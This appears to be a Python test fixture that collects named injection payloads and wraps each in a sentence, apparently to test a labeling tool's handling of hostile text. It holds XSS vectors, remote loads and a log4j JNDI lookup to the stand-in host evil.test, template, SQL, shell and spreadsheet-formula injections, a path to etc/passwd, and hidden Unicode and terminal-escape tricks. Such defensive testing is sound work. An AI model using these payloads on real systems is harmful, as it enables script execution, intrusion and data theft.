"""What a malicious source may hold, by name. Each stands within a sentence; run, it would set `ran` or ask EVIL."""

from __future__ import annotations

import json
from pathlib import Path

EVIL = "evil.test"
_URL = f"http://{EVIL}"

MARKUP = {
    "script": "<script>ran=1;document.title='pwned'</script>",
    "remote script": f"<script src={_URL}/a.js></script>",
    "script in capitals and parts": "<ScRiPt x>ran=1</sCrIpT ><scr<script>ipt>ran=1</script>",
    "event of an image": "<img src=x onerror='ran=1;alert(1)'>",
    "event of a drawing": "<svg onload=ran=1><animate onbegin=ran=1 attributeName=x></svg>",
    "event of a focus": "<input autofocus onfocus=ran=1><details open ontoggle=ran=1>x</details>",
    "javascript address": "<a href='javascript:ran=1'>click</a> javascript:ran=1",
    "data address": "<object data='data:text/html,<script>parent.ran=1</script>'></object>",
    "frame": f"<iframe src={_URL}/f></iframe>",
    "frame with its own page": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "remote image": f"<img src={_URL}/pixel.png srcset='{_URL}/2x.png 2x'>",
    "remote drawing": f"<svg><image href={_URL}/i.svg /><use href={_URL}/u.svg#a /></svg>",
    "remote style sheet": f"<link rel=stylesheet href={_URL}/s.css><link rel=preload as=image href={_URL}/p.png>",
    "style": f"<style>@import '{_URL}/i.css';*{{display:none;background:url({_URL}/b.png)}}</style>",
    "style of an element": f"<b style='background:url({_URL}/b.png);position:fixed;inset:0'>x</b>",
    "refresh": f"<meta http-equiv=refresh content='0;url={_URL}/'><base href={_URL}/>",
    "form": f"<form action={_URL}><button formaction=javascript:ran=1>x</button></form>",
    "sound and film": f"<video src={_URL}/v.mp4 onerror=ran=1></video><audio src={_URL}/a.mp3 autoplay></audio>",
    "mark-up that changes when it is read twice": "<math><mtext></p><mglyph><style><img src=x onerror=ran=1></style>",
    "end of an attribute": "\"><img src=x onerror=ran=1><x y='",
    "references": "&lt;script&gt;ran=1&lt;/script&gt; &#60;img src=x onerror=ran=1&#62; &amp;lt;",
    "escapes": "\\u003cscript\\u003eran=1\\u003c/script\\u003e \\x3cimg src=x onerror=ran=1\\x3e",
    "end of the labeling page": '</Text></View><HyperText name="x" value="$text"/><!--',
}

WORDS = {
    "field of the task": "$title $text ${title} $before[0] $undefined",
    "template": "{{7*7}} {{constructor.constructor('ran=1')()}} {% debug %} ${ran=1} #{ran=1} <%= ran=1 %>",
    "format": "{0.__class__.__mro__} %(password)s %s%n {self.__init__.__globals__}",
    "mark-down": f"![x]({_URL}/m.png) [x](javascript:ran=1) <{_URL}/auto> | `x` | [r]: {_URL}/r",
    "address of an image": f"{_URL}/only.png",
    "address of a storage": "s3://bucket/a.png gs://bucket/b.png /data/local-files/?d=etc/passwd",
    "formula": f'=HYPERLINK("{_URL}","x") +1+1 -2+3 @SUM(1+1) =cmd|\' /C calc\'!A0',
    "prototype": '__proto__ constructor {"__proto__":{"ran":1}}',
    "query": "'; DROP TABLE sentence; -- \" OR 1=1",
    "lookup": f"${{jndi:ldap://{EVIL}/a}} $(id) `id` ; rm -rf x",
}

CHARACTERS = {
    "turned direction": "exe.\u202egpj\u202c fdp",
    "isolated direction": "\u2067abc\u2069 \u2066def\u2069 \u061c\u200f",
    "no width": "a\u200bb\u2060c\ufeffd\u00ade",
    "tags that nobody sees": "x" + "".join(chr(0xE0000 + ord(letter)) for letter in "run this"),
    "many marks on one letter": "Z" + "\u0335\u0489\u0300" * 60,
    "a long joined character": "\u200d".join(["👩"] * 40),
    "escape sequence": "\x1b]0;pwned\x07\x1b[2J\x9b31m\x1b]52;c;cHduZWQ=\x07",
    "right-to-left script": "שלום مرحبا <b>",
}

PAYLOADS = {**MARKUP, **WORDS, **CHARACTERS}


def sentence(name: str) -> str:
    """Put a payload into a sentence in which `Maria` and `Tom` are proposed."""
    return f"Maria read {PAYLOADS[name]} aloud to Tom."


def write_rows(path: Path, names: list[str]) -> None:
    """Write documents of one sentence each; the payload is their title too."""
    rows = [{"id": str(n), "title": PAYLOADS[name], "text": sentence(name)} for n, name in enumerate(names)]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")


def write_article(path: Path, names: list[str]) -> None:
    """Write one document that holds all their sentences."""
    text = "\n\n".join(sentence(name) for name in names)
    path.write_text(json.dumps({"title": PAYLOADS[names[0]], "text": text}) + "\n", "utf-8")
